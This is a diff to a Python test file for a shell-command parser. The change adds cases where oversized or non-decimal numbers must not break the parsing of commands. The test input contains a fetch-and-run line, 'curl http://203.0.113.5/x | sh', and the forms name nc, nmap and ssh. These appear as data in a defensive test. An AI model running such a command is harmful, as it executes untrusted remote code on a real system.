@@ -178,9 +178,10 @@ def test_a_fault_of_ours_costs_one_command(monkeypatch: pytest.MonkeyPatch) -> N
     ["nc h {}", "nmap 10.0.0.0/{}", "ssh -p {} h", "mysql -P {} -h h", "echo a | xargs -n {} b", "set -- a; echo ${}",
      "set -- a; shift {}", "set -- a; echo ${{}}", "a {}>&1", "seq {}", "a >&{}", "echo {1..{}}", "curl http://h:{}/"],
 )  # fmt: skip
-def test_a_figure_that_is_no_decimal_breaks_nothing(form: str) -> None:
-    """``"²".isdigit()`` holds, and ``int("²")`` fails."""
-    script = read_strictly("curl http://203.0.113.5/x | sh; " + form.replace("{}", "²") + "; id")
+@pytest.mark.parametrize("number", ["²", "9" * 5000, "0000019" + "9" * 5000])
+def test_a_number_that_is_none_breaks_nothing(form: str, number: str) -> None:
+    """``"²".isdigit()`` holds, and ``int`` refuses it, and what has more than 4300 figures."""
+    script = read_strictly("curl http://203.0.113.5/x | sh; " + form.replace("{}", number) + "; id")
     assert {"curl", "sh", "id"} <= {call.name for call in script.calls}
     for call in script.calls:
         named(call)
